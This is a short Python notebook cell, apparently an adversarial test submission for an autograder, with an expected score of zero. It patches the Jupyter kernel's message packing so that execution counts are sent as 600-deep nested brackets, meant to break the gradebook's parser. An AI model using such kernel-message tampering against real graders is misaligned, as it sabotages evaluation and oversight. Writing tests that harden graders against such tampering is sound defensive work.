# points: 0
# The number of a cell's run is a list in a list in a list, deeper than the gradebook can read.
import re

session = get_ipython().kernel.session
pack = session.pack


def nested(message):
    raw = pack(message)
    if isinstance(message, dict) and "status" in message and "execution_count" in message:
        return re.sub(
            rb'"execution_count": ?\d+', b'"execution_count":' + b"[" * 600 + b"]" * 600, raw
        )
    return raw


session.pack = nested
